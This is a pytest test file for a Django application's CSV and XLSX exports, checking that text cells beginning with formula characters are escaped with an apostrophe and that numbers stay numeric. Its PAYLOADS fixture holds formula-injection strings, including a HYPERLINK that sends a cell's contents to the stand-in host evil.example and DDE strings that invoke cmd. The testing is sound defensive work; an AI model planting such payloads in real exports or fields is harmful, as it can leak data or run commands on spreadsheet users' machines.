"""CSV and XLSX exports (plans list and register, web and API) never hand a spreadsheet a
formula: text cells starting with = + - @, a tab or a carriage return get an apostrophe;
numbers, negative ones included, stay numbers."""

import csv
import io
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from backend.core.exports import FORMULA_STARTS, CsvDialect, export_response
from backend.network.exports import REGISTER_COLUMNS
from tests import factories

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}
EXPORTS = {
    "plans csv (web)": ("/plans/export.csv", "csv-cs"),
    "plans xlsx (web)": ("/plans/export.xlsx", "xlsx"),
    "plans csv (API)": ("/api/v1/plans/export/csv/", "csv"),
    "plans xlsx (API)": ("/api/v1/plans/export/xlsx/", "xlsx"),
    "register csv (web)": ("/register/export.csv", "csv-cs"),
    "register xlsx (web)": ("/register/export.xlsx", "xlsx"),
    "register csv (API)": ("/api/v1/register/export/csv/", "csv"),
    "register xlsx (API)": ("/api/v1/register/export/xlsx/", "xlsx"),
}


def _content(response: Any) -> bytes:
    if hasattr(response, "streaming_content"):
        return b"".join(response.streaming_content)
    return response.content


def _rows(response: Any, fmt: str) -> list[list[Any]]:
    data = _content(response)
    if fmt.startswith("csv"):
        # The web's CSV is the Czech Excel dialect (semicolons), the API's the machine one.
        delimiter = ";" if fmt == "csv-cs" else ","
        text = io.StringIO(data.decode("utf-8-sig"), newline="")
        return list(csv.reader(text, delimiter=delimiter))
    sheet = load_workbook(io.BytesIO(data)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # A control character is stored as the OOXML escape _x000D_, which Excel decodes and
    # openpyxl's reader leaves as is.
    return [
        [unescape(cell) if isinstance(cell, str) else cell for cell in row]
        for row in sheet.iter_rows(values_only=True)
    ]


@pytest.fixture(params=PAYLOADS)
def payload(request: pytest.FixtureRequest) -> str:
    return PAYLOADS[request.param]


@pytest.fixture
def hostile_data(payload: str, make_plan: Callable[..., Any], liberec_orp: Any) -> str:
    """Every free-text value an export shows carries the payload: call, provider, service
    (name, registration number, type), the ORP, the register entry's conditions."""
    plan = make_plan("awaiting_opinion")
    plan.call.name = payload
    plan.call.save()
    provider = plan.service.provider
    provider.name = payload
    provider.save()
    service = plan.service
    service.name = payload
    service.registration_number = payload[:7]  # the column's length
    service.save()
    service.service_type.name = payload
    service.service_type.save()
    liberec_orp.name = payload
    liberec_orp.save()
    plan.orps.set([liberec_orp])
    entry = factories.NetworkEntryFactory(service=service, conditions=payload)
    entry.orps.set([liberec_orp])
    return payload


@pytest.mark.parametrize("export", EXPORTS)
def test_no_exported_cell_starts_a_formula(
    export: str, hostile_data: str, client_as: Callable[[str], Client]
) -> None:
    url, fmt = EXPORTS[export]
    response = client_as("regional_officer").get(url)
    assert response.status_code == 200
    rows = _rows(response, fmt)
    assert len(rows) >= 2
    cells = [cell for row in rows[1:] for cell in row if isinstance(cell, str)]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    # The payload is kept as text, only made inert (XML turns a stored CR into LF).
    expected = hostile_data.strip()[:10]
    assert any(c.startswith("'") and c[1:].strip().startswith(expected) for c in cells)


def test_numbers_stay_numbers_negative_ones_included() -> None:
    columns = [("delta", "Δ", 8), ("amount", "Kč", 8), ("note", "Poznámka", 8)]
    rows = [[-3, Decimal("-1.50"), "-3"], [Decimal(12), 0, "+420 123"]]
    machine = CsvDialect.MACHINE
    xlsx = export_response(fmt="xlsx", filename="x", columns=columns, rows=rows, dialect=machine)
    assert _rows(xlsx, "xlsx")[1:] == [[-3, -1.5, "'-3"], [12, 0, "'+420 123"]]
    as_csv = export_response(fmt="csv", filename="x", columns=columns, rows=rows, dialect=machine)
    assert _rows(as_csv, "csv")[1:] == [["-3", "-1.5", "'-3"], ["12", "0", "'+420 123"]]
    czech = export_response(
        fmt="csv", filename="x", columns=columns, rows=rows, dialect=CsvDialect.EXCEL_CS
    )
    assert _rows(czech, "csv-cs")[1:] == [["-3", "-1,5", "'-3"], ["12", "0", "'+420 123"]]


def test_capacities_in_the_register_export_are_numeric(
    hostile_data: str, client_as: Callable[[str], Client]
) -> None:
    rows = _rows(client_as("regional_officer").get("/register/export.xlsx"), "xlsx")
    capacity = [key for key, _title, _width in REGISTER_COLUMNS].index("capacity")
    assert all(isinstance(row[capacity], int | float) for row in rows[1:])
